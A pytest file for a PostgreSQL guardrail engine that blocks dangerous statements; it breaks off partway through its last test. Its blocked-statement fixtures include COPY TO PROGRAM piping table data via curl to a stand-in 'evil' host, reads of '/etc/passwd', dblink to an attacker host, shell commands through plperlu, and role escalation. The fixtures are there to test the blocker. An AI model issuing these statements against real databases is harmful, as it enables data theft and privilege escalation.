"""The guardrail engine (hoopwire.policy): packs, scoping, precedence, errors and the cache.

No server here: these check the verdicts on statement bytes. (The real-PostgreSQL tests drive the
same packs through the gateway with psql, psycopg and asyncpg.)
"""

from __future__ import annotations

import re
import threading

import hyperscan
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from hoopwire._sqlnorm import normalize_statements
from hoopwire.config import ConfigError, GuardrailConfig
from hoopwire.pg.packs import PACKS
from hoopwire.policy import PolicyError, Verdict
from hoopwire.pg.dialect import DIALECT
from hoopwire.policy.engine import PolicyEngine as _PolicyEngine


def PolicyEngine(guardrails, **kw):
    """The engine in PostgreSQL's dialect, as a postgres connection builds it."""
    kw.setdefault("shape", DIALECT.statement_shape)
    return _PolicyEngine(guardrails, views=DIALECT.statement_views, packs=DIALECT.packs, **kw)
from hoopwire.policy.engine import HS_FLAGS
from hoopwire.pg.packs import CODE, FULL, word_except


def rule(name, *patterns, **kw) -> GuardrailConfig:
    return GuardrailConfig(name=name, patterns=tuple(patterns), **kw)


@pytest.fixture(scope="module")
def packs() -> PolicyEngine:
    return PolicyEngine(tuple(GuardrailConfig(name=p, pack=p) for p in PACKS), cache_size=0)


def decided(engine: PolicyEngine, sql: bytes, groups=()) -> str | None:
    v = engine.for_groups(frozenset(groups)).check(sql)
    return v.rule if v else None


# ---------------------------------------------------------------------------------------------
# the packs: caught statements and near misses

CAUGHT = {
    "destructive-ddl": [
        b"DROP TABLE orders",
        b"drop table if exists orders cascade",
        b"DrOp/**/TaBlE orders",
        b"drop\n\t table orders",
        b"-- migration\nDROP TABLE orders",
        b"/* a /* nested */ comment */ drop table orders",
        b"DROP SCHEMA billing CASCADE",
        b"DROP DATABASE orders",
        b"drop materialized view v",
        b"drop index concurrently i",
        b"drop view v",
        b"drop function f(int)",
        b"drop owned by app",
        b"drop role app",
        # retyped, renamed, moved or detached (tests/test_pg_redteam_ddl.py has the variants)
        b"ALTER TABLE orders ALTER COLUMN total TYPE numeric(4,0)",
        b"ALTER TYPE addr ALTER ATTRIBUTE zip TYPE int",
        b"ALTER TABLE orders RENAME TO orders_old",
        b"ALTER SCHEMA billing RENAME TO old_billing",
        b"ALTER TABLE orders SET SCHEMA archive",
        b"ALTER TABLE orders DETACH PARTITION orders_2025",
        b"TRUNCATE orders",
        b"truncate table only orders restart identity",
        b'truncate "orders"',
        b"ALTER TABLE orders DROP COLUMN total",
        b"alter table orders drop total",
        b"alter table if exists only orders drop constraint orders_pk",
        b"alter table orders add column x int, drop column y",
        b'alter table orders drop "total"',
        b"alter foreign table f drop column c",
        b"alter type t drop attribute a",
        b"select 1; drop table orders",
        b"select 1;drop table orders",
        b"select 'x'; DROP TABLE orders",
        b"select $$a$$; drop table orders",
        b"select E'\\''; drop table orders; --'",
        b"select '\\'' ; drop table orders; --'",   # standard_conforming_strings = off
        b"select 1e'\\'' ; drop table orders; --'",  # 1 then E'\'' on PostgreSQL 14
    ],
    "unbounded-write": [
        b"DELETE FROM orders",
        b"delete from orders;",
        b"delete from only orders *",
        b"delete from orders as o",
        b"delete from orders returning *",
        b"delete from orders using customers",
        b"delete from orders using (select 1 where true) s",
        b"delete from orders returning (select 1 where true)",
        b"delete from orders -- where id = 1",
        b"delete from orders /* where id = 1 */",
        b"delete from orders where true",
        b"delete from orders where 1=1",
        b"delete from orders where (1 = 1)",
        b"delete from orders where 'a' = 'a'",
        b"delete from orders where not false returning id",
        b'delete from orders as "where"',
        b"DELETE\nFROM\torders",
        b"UPDATE orders SET total = 0",
        b"update orders set total = (select max(t) from x where x.id = orders.id)",
        b"update only orders o set total = 0 from customers c",
        b"update orders set total = 0 where true",
        b"WITH d AS (SELECT 1 WHERE false) DELETE FROM orders",
        b"with recursive x as (select 1) update orders set a = 1",
        b"with d as (delete from orders returning *) select * from d where id > 3",
        b"with d as materialized (update orders set a = 1 returning *) select 1",
        b"explain analyze delete from orders",
        b"explain (analyze, buffers) delete from orders",
        b"prepare p as delete from orders",
        b"prepare p (int, text) as update orders set a = $1",
        b"prepare \"my plan\" (numeric(10, 2)) as update orders set total = $1",
        b"copy (delete from orders returning *) to stdout",
        b"create rule r as on insert to t do instead (delete from a; update b set x = 1)",
        b"create rule r as on insert to t do delete from a",
        b"create function f() returns void language sql begin atomic delete from orders; end",
        b"select 1; delete from orders",
        b"delete from orders using ((((((((((select 1 where true)))))))))) s",
    ],
    "privilege-changes": [
        b"GRANT SELECT ON orders TO agent",
        b"grant pg_read_server_files to agent",
        b"grant all privileges on all tables in schema public to public",
        b"REVOKE SELECT ON orders FROM agent",
        b"revoke grant option for select on orders from agent",
        b"ALTER ROLE agent SUPERUSER",
        b"alter user agent with password 'x'",
        b"CREATE ROLE boss LOGIN SUPERUSER",
        b"create user boss",
        b"create group admins",
        b"alter group admins add user agent",
        b"alter default privileges in schema s grant select on tables to agent",
        b"reassign owned by app to agent",
        b"alter table orders owner to agent",
        b"alter schema billing owner to agent",
        b"create policy p on orders using (true)",
        b"drop policy p on orders",
        b"alter table orders disable row level security",
        b"alter table orders no force row level security",
        b"create function f() returns int language sql security definer as $$select 1$$",
        b"create schema s grant select on tables to agent",
    ],
    "server-side-io": [
        b"COPY orders TO PROGRAM 'curl -d @- http://evil'",
        b"copy orders from program 'id'",
        b"COPY orders FROM '/etc/passwd'",
        b"copy (select 1) to '/tmp/x'",
        b"copy orders to E'/tmp/x'",
        b"copy orders to $$/tmp/x$$",
        b"copy orders (a, b) from '/tmp/x' with (format csv)",
        b"select pg_read_file('/etc/passwd')",
        b"SELECT \"pg_read_file\"('/etc/passwd')",
        b"select \"pg_catalog\".\"pg_read_file\"('x')",
        b"select pg_catalog.pg_read_binary_file('x')",
        b"select U&\"pg\\005fread\\005ffile\"('x')",
        b"select * from pg_ls_dir('.')",
        b"select pg_stat_file('postgresql.conf')",
        b"select lo_import('/etc/passwd')",
        b"select lo_export(1234, '/tmp/x')",
        b"select dblink_exec('host=evil', 'select 1')",
        b"select * from dblink('host=evil', 'select 1') as t(a int)",
        b"LOAD 'plpgsql'",
        b"load '$libdir/evil'",
        b"create extension adminpack",
        b'create extension if not exists "file_fdw"',
        b"alter system set archive_command = 'curl http://evil'",
        b"do $$ begin perform pg_read_file('/etc/passwd'); end $$",
        b"do $x$ begin execute 'select lo_export(1, ''/tmp/y'')'; end $x$",
        b"create function f() returns text language plpython3u as $$import os$$",
        b"create function f() returns int as '/tmp/x.so', 'f' language c",
        b"create function f() returns int as '/tmp/x.so', 'f' language 'C'",
        b"do language plperlu $$ system('id') $$",
        b"create language plpython3u",
        b"create server s foreign data wrapper postgres_fdw",
        b"import foreign schema public from server s into x",
        b"set session_preload_libraries = 'evil'",
        b"select set_config('session_preload_libraries', 'evil', false)",
        b"create tablespace t location '/tmp/x'",
        b"select query_to_xml('select pg_read_file(''/etc/passwd'')', true, true, '')",
    ],
    "session-tampering": [
        b"SET ROLE postgres",
        b"set role none",
        b"SET LOCAL ROLE admin",
        b"set session role admin",
        b"SET SESSION AUTHORIZATION 'postgres'",
        b"set session session authorization default",
        b"set session_authorization = 'postgres'",
        b'set "role" to admin',
        b'set "session_authorization" to admin',
        b"set role = admin",
        b"RESET ROLE",
        b"reset session authorization",
        b'reset "role"',
        b"select set_config('role', 'admin', false)",
        b"select set_config('ROLE', 'admin', false)",
        b"select pg_catalog.set_config(U&'\\0072ole', 'admin', true)",
        b"select set_config($$role$$, 'admin', false)",
        b"select set_config($1, $2, false)",
        b"select set_config('ro' || 'le', 'admin', false)",
        b"select set_config('role'::text, 'admin', false)",
        b"set session_replication_role = replica",
        b"select set_config('session_replication_role', 'replica', false)",
        b"set client_encoding to 'SJIS'",
        b"set names 'shift-jis'",
        b"set client_encoding = big5",
        b"select set_config('client_encoding', $1, false)",
    ],
}

CAUGHT["procedural-code"] = [
    b"DO $$ BEGIN RAISE NOTICE 'x'; END $$",
    b"do language plpgsql $x$ begin execute 'drop table t'; end $x$",
    b"/* warm-up */ do 'begin null; end'",
    b"select 1; do $$ begin perform 1; end $$",
    b"create function f() returns int language sql as 'select 1'",
    b"CREATE OR REPLACE FUNCTION f(a int) RETURNS int BEGIN ATOMIC SELECT a; END",
    b"create procedure p() language plpgsql as $$ begin commit; end $$",
    b"create rule r as on insert to t do instead nothing",
    b"create trigger t before insert on x for each row execute function f()",
    b"create constraint trigger t after insert on x for each row execute function f()",
    b"create event trigger e on ddl_command_start execute function f()",
]

# a quoted name inside a DO body is still the function
CAUGHT["server-side-io"].append(b"do $$ begin perform \"pg_read_file\"('/etc/passwd'); end $$")

PASSES = [
    b"select 1",
    b"SELECT 'drop table orders'",
    b"select $$drop table orders$$",
    b"select E'drop table orders'",
    b"select U&'drop table orders'",
    b'select "drop" from t',
    b'select * from "drop table"',
    b"select truncate_at from orders",
    b"select * from dropbox",
    b"create table drop_log (id int)",
    b"insert into audit (action) values ('DROP TABLE orders')",
    b"comment on table orders is 'never drop table orders'",
    b"select 1 -- drop table orders",
    b"select /* drop table orders */ 1",
    b"alter table orders alter column c drop default",
    b"alter table orders alter c drop not null",
    b"alter table orders alter c drop identity if exists",
    b"DELETE FROM orders WHERE id = 1",
    b"delete from orders where id = $1",
    b"delete from orders where id in (select id from x)",
    b"delete from orders using customers c where c.id = orders.customer_id",
    b"delete from orders where current of cur",
    b"delete from orders where(id=1)",
    b"UPDATE orders SET total = 0 WHERE id = 1",
    b"update orders set total = x.t from x where x.id = orders.id",
    b"with d as (select 1 where x) delete from orders where id = 1",
    b"with d as (delete from orders where id = 1 returning *) select * from d",
    b"insert into orders values (1) on conflict (id) do update set total = 0",
    b"select * from orders for update",
    b"select * from orders where id in (select 1) for no key update",
    b"select 'delete from orders'",
    b"select * from deleted_orders",
    b"select 'grant'",
    b"select * from grants",
    b"select granted from t",
    b'select "grant" from t',
    b"select rolname from pg_roles",
    b"copy orders to stdout",
    b"COPY orders FROM STDIN",
    b"copy (select * from orders where note = 'x') to stdout with csv header",
    b"copy orders to stdout (format csv, delimiter ',')",
    b"select 'pg_read_file'",
    b"select pg_read_file_count from stats",
    b"select * from programs",
    b"select * from copy_log",
    b"create extension pg_trgm",
    b"select 'set role admin'",
    b"set search_path = app, public",
    b"select set_config('search_path', 'app', false)",
    b"select set_config('app.user_id', '42', true)",
    b"set statement_timeout = 0",
    b"select current_role",
    b"RESET ALL",
    b"DISCARD ALL",
    b"set client_encoding = 'UTF8'",
    b"set names 'utf8'",
    b"select 'C:\\temp'",
    b"select * from t where note = '\\'",
    b"select * from do_list",
    b"select done, 'do $$ x $$' from t",
    b"call refresh_totals()",
    b"create view v as select 1",
    b"select * from triggers where function = 'f'",
    b"create table functions (id int)",
]


@pytest.mark.parametrize("pack, sql", [(p, s) for p, stmts in CAUGHT.items() for s in stmts])
def test_pack_catches(packs, pack, sql):
    # (which pack decides is test_each_pack_alone's business: the scan stops at the first
    # blocking match, and `drop policy` is both destructive and a privilege change)
    v = packs.for_groups(frozenset()).check(sql)
    assert v is not None, sql
    assert v.action == "block"


@pytest.mark.parametrize("sql", PASSES)
def test_near_misses_pass(packs, sql):
    assert packs.for_groups(frozenset()).check(sql) is None


@pytest.mark.parametrize("pack", list(PACKS))
def test_each_pack_alone(pack):
    engine = PolicyEngine((GuardrailConfig(name="only", pack=pack),), cache_size=0)
    policy = engine.for_groups(frozenset())
    for sql in CAUGHT[pack]:
        v = policy.check(sql)
        assert v is not None and v.rule == "only", sql
        assert v.message == PACKS[pack].message
    for sql in PASSES:
        assert policy.check(sql) is None, sql


def test_one_blocked_statement_blocks_the_message(packs):
    v = packs.for_groups(frozenset()).check(b"select 1; select 2; delete from orders; select 3")
    assert v.rule == "unbounded-write"


def test_invalid_utf8_is_scanned(packs):
    assert decided(packs, b"select '\xff\xfe'; drop table \xc3\x28") == "destructive-ddl"
    engine = PolicyEngine((rule("bytes", r"caf\xc3\xa9", r"\xff\xfe"),))
    assert decided(engine, "select * from café".encode()) == "bytes"
    assert decided(engine, b"select * from t\xff\xfe") == "bytes"


def test_word_except():
    pattern = re.compile(rf"^{word_except('where', 'when')}$")
    for word in ["a", "w", "wh", "whe", "wher", "wheres", "where_", "where1", "whe$re", "x",
                 "when_", "whence", "_where", "whhere"]:
        assert pattern.match(word), word
    for word in ["where", "when"]:
        assert not pattern.match(word), word


# ---------------------------------------------------------------------------------------------
# rules of one's own, scoping and precedence

def test_own_patterns_and_literal_scanning():
    engine = PolicyEngine((
        rule("billing", r"\bbilling\."),
        rule("ssn-in-literals", r"\d{3}-\d{2}-\d{4}", scan_literals=True, action="log"),
    ))
    policy = engine.for_groups(frozenset())
    assert policy.check(b"select * from billing.invoices").rule == "billing"
    assert policy.check(b'select * from "billing".invoices').rule == "billing"
    assert policy.check(b'select * from "BILLING"."Invoices"').rule == "billing"
    assert policy.check(b"select 'billing.invoices'") is None
    v = policy.check(b"insert into people values ('123-45-6789')")
    assert v == Verdict(action="log", rule="ssn-in-literals", message="guardrail 'ssn-in-literals'",
                        matched=("ssn-in-literals",))


def test_group_scoping():
    engine = PolicyEngine((
        rule("agents-no-drop", r"\bdrop\b", groups=("agents",)),
        rule("no-truncate-but-dba", r"\btruncate\b", except_groups=("dba",)),
        rule("log-selects", r"^select\b", action="log"),
    ))
    sql_drop, sql_trunc, sql_sel = b"drop table t", b"truncate t", b"select 1"
    agents = engine.for_groups(frozenset({"agents"}))
    dba = engine.for_groups(frozenset({"dba"}))
    both = engine.for_groups(frozenset({"agents", "dba"}))
    nobody = engine.for_groups(frozenset())
    assert [r.name for r in agents.rules] == ["agents-no-drop", "no-truncate-but-dba",
                                              "log-selects"]
    assert [r.name for r in dba.rules] == ["log-selects"]
    assert [r.name for r in both.rules] == ["agents-no-drop", "log-selects"]
    assert [r.name for r in nobody.rules] == ["no-truncate-but-dba", "log-selects"]
    assert agents.check(sql_drop).rule == "agents-no-drop"
    assert dba.check(sql_drop) is None and dba.check(sql_trunc) is None
    assert both.check(sql_trunc) is None and both.check(sql_drop).action == "block"
    assert nobody.check(sql_drop) is None and nobody.check(sql_trunc).rule == "no-truncate-but-dba"
    assert nobody.check(sql_sel).action == "log"
    # group sets with the same applicable rules share one compiled policy, and asking again
    # returns the same object
    assert engine.for_groups(frozenset({"analysts"})) is nobody
    assert engine.for_groups({"agents"}) is agents
    assert engine.for_groups(["dba", "analysts"]) is dba


def test_scoped_out_entirely():
    engine = PolicyEngine((rule("agents-only", r"\bdrop\b", groups=("agents",)),))
    policy = engine.for_groups(frozenset({"humans"}))
    assert policy.empty and not engine.empty
    assert policy.check(b"drop table t") is None


def test_precedence_block_beats_approve_beats_log():
    engine = PolicyEngine((
        rule("log-all-deletes", r"\bdelete\b", action="log"),
        rule("approve-drops", r"\bdrop\b", action="approve", approvers=("dba",)),
        rule("log-tables", r"\btable\b", action="log"),
        rule("block-truncate", r"\btruncate\b"),
        rule("block-orders", r"\borders\b"),
    ))
    p = engine.for_groups(frozenset())
    v = p.check(b"delete from t where id = 1")
    assert (v.action, v.rule, v.matched) == ("log", "log-all-deletes", ("log-all-deletes",))
    v = p.check(b"drop table t")
    assert (v.action, v.rule, v.matched) == ("approve", "approve-drops",
                                             ("approve-drops", "log-tables"))
    # the approve rule matched first, the block later in the text: block decides
    v = p.check(b"drop table orders")
    assert (v.action, v.rule) == ("block", "block-orders")
    assert v.matched == ("approve-drops", "log-tables", "block-orders")
    # block in one statement, log in another
    v = p.check(b"delete from t where x; truncate t")
    assert (v.action, v.rule) == ("block", "block-truncate")
    assert "log-all-deletes" in v.matched


def test_approve_and_log_verdicts_list_every_match():
    engine = PolicyEngine((
        rule("a", r"\bselect\b", action="log"),
        rule("b", r"\bfrom\b", action="log"),
        rule("c", r"\bwhere\b", action="approve", approvers=("dba",)),
    ))
    v = engine.for_groups(frozenset()).check(b"select 1 from t where x; select 2")
    assert v == Verdict(action="approve", rule="c", message="guardrail 'c'",
                        matched=("a", "b", "c"))


# ---------------------------------------------------------------------------------------------
# errors

def test_invalid_pattern_names_rule_and_pattern():
    with pytest.raises(PolicyError) as e:
        PolicyEngine((
            rule("fine", r"\bok\b"),
            rule("broken", r"\bfine\b", r"\bdrop(\s+table"),
            rule("lookahead", r"drop(?=\s)", scan_literals=True),
            rule("empty-match", r"x*"),
        ), path="connection[0].guardrail")
    problems = dict(e.value.problems)
    assert set(problems) == {"connection[0].guardrail[1].patterns[1]",
                             "connection[0].guardrail[2].patterns[0]",
                             "connection[0].guardrail[3].patterns[0]"}
    reason = problems["connection[0].guardrail[1].patterns[1]"]
    assert "'broken'" in reason and r"\\bdrop(\\s+table" in reason and "parenthesis" in reason
    assert "'lookahead'" in problems["connection[0].guardrail[2].patterns[0]"]
    assert isinstance(e.value, ConfigError)
    assert e.value.lines()[0].startswith("connection[0].guardrail[1].patterns[1]: rule 'broken'")


def test_a_pattern_with_a_nul_byte_is_refused():
    """Hyperscan compiles C strings: 'drop\\0table' would silently become 'drop'."""
    with pytest.raises(PolicyError) as e:
        PolicyEngine((rule("nul", "drop\x00table"),), path="connection[0].guardrail")
    (key, reason), = e.value.problems
    assert key == "connection[0].guardrail[0].patterns[0]" and "NUL" in reason


def test_other_rule_errors():
    with pytest.raises(PolicyError) as e:
        PolicyEngine((
            GuardrailConfig(name="p", pack="no-such-pack"),
            rule("dup", "a"),
            rule("dup", "b"),
            rule("act", "c", action="allow"),
            rule("none"),
            rule("both", "d", groups=("a",), except_groups=("b",)),
            GuardrailConfig(name="mixed", pack="destructive-ddl", patterns=("x",)),
        ))
    problems = dict(e.value.problems)
    assert "unknown pack 'no-such-pack'" in problems["guardrail[0].pack"]
    assert "destructive-ddl" in problems["guardrail[0].pack"]
    assert "duplicate rule name 'dup'" in problems["guardrail[2].name"]
    assert "action" in problems["guardrail[3].action"]
    assert "guardrail[4].patterns" in problems
    assert "guardrail[5].except_groups" in problems
    assert "not both" in problems["guardrail[6].patterns"]


def test_no_rules_at_all():
    engine = PolicyEngine(())
    assert engine.empty
    policy = engine.for_groups(frozenset({"x"}))
    assert policy.empty and policy.check(b"drop table t") is None


def _alone(patterns) -> hyperscan.Database:
    db = hyperscan.Database()
    db.compile(expressions=list(patterns), elements=len(patterns), flags=HS_FLAGS)
    return db


def _matches(db: hyperscan.Database, statements) -> bool:
    hits = []
    for stmt in statements:
        db.scan(stmt, match_event_handler=lambda *a: hits.append(a))
    return bool(hits)


def test_every_pack_pattern_compiles_alone_and_is_live():
    """Each pattern of each pack is valid Hyperscan on its own, catches at least one of its
    pack's CAUGHT statements in its view (no dead pattern: a typo in one would otherwise go
    unnoticed behind the others), and none of the near misses."""
    for name, pack in PACKS.items():
        for view, pattern in pack.patterns:
            db = _alone([pattern.encode()])
            keep = view == FULL
            caught = [s for s in CAUGHT[name] if _matches(db, normalize_statements(s, keep))]
            assert caught, (name, view, pattern)
            passed = [s for s in PASSES if _matches(db, normalize_statements(s, keep))]
            assert not passed, (name, view, pattern, passed)


# ---------------------------------------------------------------------------------------------
# the verdict cache, stats and the scan-time hook

def test_cache_skips_repeated_statements():
    seen = []
    # cache_size=4: two generations of two entries each
    engine = PolicyEngine((rule("no-drop", r"\bdrop\b"), rule("log-t", r"\bt\b", action="log")),
                          cache_size=4, scan_seconds=seen.append, shape=None)   # the text cache
    p = engine.for_groups(frozenset())
    a, b, c = b"drop table t", b"select 1", b"select * from t"
    assert p.check(a).rule == "no-drop"
    assert p.check(a).rule == "no-drop"
    assert p.check(bytearray(a)).rule == "no-drop"
    assert engine.misses == 1
    assert p.check(b) is None and p.check(b) is None       # "nothing matched" is cached too
    assert engine.misses == 2
    p.check(c)                                             # a's generation is dropped
    assert engine.misses == 3
    p.check(b)
    assert engine.misses == 3
    p.check(a)                                             # scanned again
    assert engine.misses == 4
    assert all(s >= 0 for s in seen)                       # timings are sampled, never negative
    assert engine.stats() == {"no-drop": 4, "log-t": 1}


def test_scan_timing_is_sampled():
    seen = []
    engine = PolicyEngine((rule("x", r"\bx\b"),), cache_size=0, scan_seconds=seen.append)
    p = engine.for_groups(frozenset())
    for _ in range(64):
        p.check(b"select x")
    assert len(seen) == 4 and all(s >= 0 for s in seen)   # one miss in 16


def test_cache_bounds():
    engine = PolicyEngine((rule("x", r"\bx\b"),), cache_size=0)
    p = engine.for_groups(frozenset())
    for _ in range(3):
        p.check(b"select x")
    assert engine.misses == 3
    engine = PolicyEngine((rule("x", r"\bx\b"),), cache_bytes=100, shape=None)
    p = engine.for_groups(frozenset())
    stmts = [b"select %d /* padding padding padding */" % i for i in range(5)]
    for s in stmts + stmts:
        p.check(s)
    assert engine.misses == 10                             # 5 * ~40 bytes never fit in 100
    p.check(stmts[-1])
    assert engine.misses == 10


def test_group_policies_have_their_own_cache():
    engine = PolicyEngine((rule("agents-no-drop", r"\bdrop\b", groups=("agents",)),))
    assert engine.for_groups({"agents"}).check(b"drop table t") is not None
    assert engine.for_groups({"humans"}).check(b"drop table t") is None


def test_for_groups_from_threads():
    engine = PolicyEngine(tuple(rule(f"r{i}", rf"\bt{i}\b", groups=(f"g{i}",))
                                for i in range(6)))
    results: dict[int, object] = {}

    def worker(i: int) -> None:
        results[i] = engine.for_groups(frozenset({f"g{i % 3}"}))

    threads = [threading.Thread(target=worker, args=(i,)) for i in range(12)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    for i in range(12):
        assert results[i] is results[i % 3]
        assert results[i].check(b"select t%d" % (i % 3)).rule == f"r{i % 3}"


# ---------------------------------------------------------------------------------------------
# properties

_RULE_DBS: list = []


def _rule_dbs(engine: PolicyEngine) -> list:
    """[(rule name, database of its code-view patterns, of its full-view patterns)], each
    rule compiled on its own (None for a view it has no pattern in)."""
    if not _RULE_DBS:
        for r in engine.rules:
            code = [p for v, p, _ in r.patterns if v == CODE]
            full = [p for v, p, _ in r.patterns if v == FULL]
            _RULE_DBS.append((r.name, _alone(code) if code else None,
                              _alone(full) if full else None))
    return _RULE_DBS


def reference_rules(engine: PolicyEngine, sql: bytes) -> set:
    """The rules whose patterns match some statement of sql in their view, scanned rule by
    rule with no shared database, no early stop and no cache. Read with
    standard_conforming_strings on, and also off when a backslash could change the reading."""
    found = set()
    for scs in (True, False) if b"\\" in sql else (True,):
        views = {CODE: normalize_statements(sql, standard_conforming_strings=scs),
                 FULL: normalize_statements(sql, True, standard_conforming_strings=scs)}
        for name, code, full in _rule_dbs(engine):
            if code is not None and _matches(code, views[CODE]) or \
                    full is not None and _matches(full, views[FULL]):
                found.add(name)
    return found


_CAUGHT_ALL = [s for stmts in CAUGHT.values() for s in stmts]
# messages of several statements, some caught, some near misses, some noise, joined by ; or
# bytes that may open a comment or a literal
sql_messages = st.one_of(
    st.binary(max_size=300),
    st.lists(st.one_of(st.sampled_from(_CAUGHT_ALL + PASSES), st.binary(max_size=12)),
             min_size=1, max_size=4).flatmap(
        lambda parts: st.sampled_from([b"; ", b";", b"\n", b" -- ", b" '", b"\\"]).map(
            lambda sep: sep.join(parts))))


@settings(max_examples=1500, deadline=None, suppress_health_check=list(HealthCheck))
@given(sql_messages)
@example(b"select '\\'' ; drop table orders; --'")   # caught only when read with scs off
@example(b"select 'a\\' ; select 1")                   # a backslash, nothing to catch
def test_verdicts_agree_with_each_rule_scanned_alone(packs, sql):
    """The engine (one database per view plus their union, statement_views, a scan that
    stops at the first blocking match, the ambiguity re-read) blocks exactly the messages in
    which some rule, scanned on its own over normalize_statements, matches; and the rule it
    names, and every rule it lists, is one of those."""
    want = reference_rules(packs, sql)
    v = packs.for_groups(frozenset()).check(sql)
    if not want:
        assert v is None, (sql, v)
        return
    assert v is not None, (sql, want)
    assert v.action == "block" and v.rule in want and v.rule in v.matched
    assert set(v.matched) <= want, (sql, v.matched, want)


@settings(max_examples=500, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.sampled_from([s for stmts in CAUGHT.values() for s in stmts]),
       st.sampled_from([b"", b"select 1; ", b"select 'x;'; "]),
       st.sampled_from([b"", b";", b"; select 2", b" -- bye"]))
def test_caught_statements_stay_caught_in_company(packs, sql, before, after):
    assert packs.for_groups(frozenset()).check(before + sql + after) is not None


# -- verdicts by statement shape ------------------------------------------------------------------

def test_statement_shape_judged_once_for_every_literal():
    """A message that differs from one judged before only in its string literals is judged by
    the views it scans, not scanned again (GroupPolicy._shapes): same verdict, counted each
    time."""
    eng = PolicyEngine((rule("deletes", r"\bdelete\b", action="log"),
                        rule("drops", r"\bdrop\s+table\b")), shape=None)
    pol = eng.for_groups(())
    for i in range(40):
        v = pol.check(f"DELETE FROM t WHERE note = 'n{i}'".encode())
        assert v is not None and v.rule == "deletes" and v.action == "log"
        assert pol.check(f"SELECT * FROM t WHERE k = 'k{i}'".encode()) is None
    assert eng.stats()["deletes"] == 40
    # 80 distinct texts, two shapes (the code view keeps numbers: a pack may read them, and
    # string literals become '?'): only their first sight reached a Hyperscan scan
    assert pol._shapes is not None and len(pol._shapes) == 2
    blocked = pol.check(b"drop table t")
    assert blocked is not None and blocked.action == "block"


def test_statement_shape_cache_is_off_while_a_rule_reads_literals():
    """A rule that scans literals judges the text, never the shape: the same shape with another
    literal may be refused."""
    eng = PolicyEngine((rule("no-secret-literal", "topsecret", scan_literals=True),))
    pol = eng.for_groups(())
    assert pol.check(b"SELECT * FROM t WHERE k = 'open'") is None
    v = pol.check(b"SELECT * FROM t WHERE k = 'topsecret'")
    assert v is not None and v.rule == "no-secret-literal"


# -- verdicts by statement shape, integers set aside (the dialect's statement_shape) ---------------

@pytest.fixture(scope="module")
def shaped_packs() -> PolicyEngine:
    """The `packs` engine's rules, cached by shape as a postgres connection runs them."""
    return PolicyEngine(tuple(GuardrailConfig(name=p, pack=p) for p in PACKS))


def test_integers_share_a_shape_but_the_tautology_does_not():
    """pgbench's select with a new key each time is judged once; two statements that differ
    only in an integer, one of them `WHERE 1 = 1`, get different verdicts whichever comes
    first."""
    eng = PolicyEngine(tuple(GuardrailConfig(name=p, pack=p) for p in PACKS))
    pol = eng.for_groups(())
    assert pol._shape is not None
    for aid in (48213, 7, 1, 0, 99999999999999999999):
        assert pol.check(b"SELECT abalance FROM pgbench_accounts WHERE aid = %d;" % aid) is None
    assert eng.misses == 2          # 1 is a shape of its own (the packs read it)
    for first, second in ((b"1 = 2", b"1 = 1"), (b"2 = 2", b"1 = 1"), (b"1 = 1", b"1 = 10")):
        eng = PolicyEngine(tuple(GuardrailConfig(name=p, pack=p) for p in PACKS))
        pol = eng.for_groups(())
        verdicts = [pol.check(b"DELETE FROM t WHERE " + w) for w in (first, second, first)]
        blocked = [v is not None and v.rule == "unbounded-write" for v in verdicts]
        assert blocked == [first == b"1 = 1", second == b"1 = 1", first == b"1 = 1"], verdicts
    assert eng.stats()["unbounded-write"] == 2


def test_a_pattern_that_may_read_an_integer_keeps_the_text_cache():
    """`limit\\s+\\d{4,}` reads the integer: its rule set is judged by the text, not the shape."""
    eng = PolicyEngine((rule("big-limit", r"\blimit\s+\d{4,}"),
                        rule("drops", r"\bdrop\s+table\b")))
    pol = eng.for_groups(())
    assert pol._shape is None
    assert pol.check(b"select * from t limit 10") is None
    assert pol.check(b"select * from t limit 10000").rule == "big-limit"
    # digit-blind patterns of one's own are judged by the shape
    blind = PolicyEngine((rule("drops", r"\bdrop\s+table\b", r"(?:^|;)\s*vacuum\b"),))
    assert blind.for_groups(())._shape is not None


def test_rules_reading_literals_see_them_in_the_shape():
    """A full-view rule sees string literals: two texts that differ in one have two shapes."""
    eng = PolicyEngine((rule("no-secret", "topsecret", scan_literals=True),))
    pol = eng.for_groups(())
    assert pol._shape is not None
    assert pol.check(b"SELECT * FROM t WHERE k = 'open' AND n = 1") is None
    assert pol.check(b"SELECT * FROM t WHERE k = 'topsecret' AND n = 2").rule == "no-secret"
    assert pol.check(b"SELECT * FROM t WHERE k = 'open' AND n = 3") is None


_NUMBERS = st.sampled_from([b"0", b"1", b"2", b"01", b"10", b"11", b"1.0", b"1e1", b"0x1",
                            b"1_0", b"123456789"])


def _renumbered(drawn: tuple) -> bytes:
    """Every digit 1 of a message replaced by one of the numbers drawn, in turn."""
    sql, numbers = drawn
    first, *rest = sql.split(b"1")
    return first + b"".join(numbers[i % len(numbers)] + p for i, p in enumerate(rest))


numbered_messages = st.tuples(sql_messages, st.lists(_NUMBERS, min_size=1, max_size=4)).map(
    _renumbered)


@settings(max_examples=1500, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.one_of(sql_messages, numbered_messages))
@example(b"DELETE FROM t WHERE 1 = 1")
@example(b"DELETE FROM t WHERE 2 = 2")
@example(b"DELETE FROM t WHERE 11 = 1")
@example(b"delete from t where (1=1)")
def test_shape_verdicts_agree_with_each_rule_scanned_alone(shaped_packs, sql):
    """As test_verdicts_agree_with_each_rule_scanned_alone, through one long-lived engine that
    caches by shape: whatever was judged before, a text's verdict is its own."""
    want = reference_rules(shaped_packs, sql)
    v = shaped_packs.for_groups(frozenset()).check(sql)
    if not want:
        assert v is None, (sql, v)
        return
    assert v is not None, (sql, want)
    assert v.action == "block" and v.rule in want and v.rule in v.matched
    assert set(v.matched) <= want, (sql, v.matched, want)


def test_kinds_of_a_new_shape_take_no_second_lexer_pass(monkeypatch):
    """On a shape not judged yet, the classifier reads the shape's code pieces (the same cache
    key as the text's own) instead of running the lexer again."""
    from hoopwire.pg import statements
    classifier = statements.StatementClassifier()
    eng = _PolicyEngine((GuardrailConfig(name="reads", allow_kinds=("select",)),),
                        views=DIALECT.statement_views, packs=DIALECT.packs,
                        shape=DIALECT.statement_shape, classifier=classifier)
    pol = eng.for_groups(())

    def no_views(*_a, **_k):
        raise AssertionError("the lexer ran twice")

    monkeypatch.setattr(statements, "statement_views", no_views)
    assert pol.check(b"SELECT * FROM t WHERE id = 48213") is None
    v = pol.check(b"DELETE FROM t WHERE id = 7")
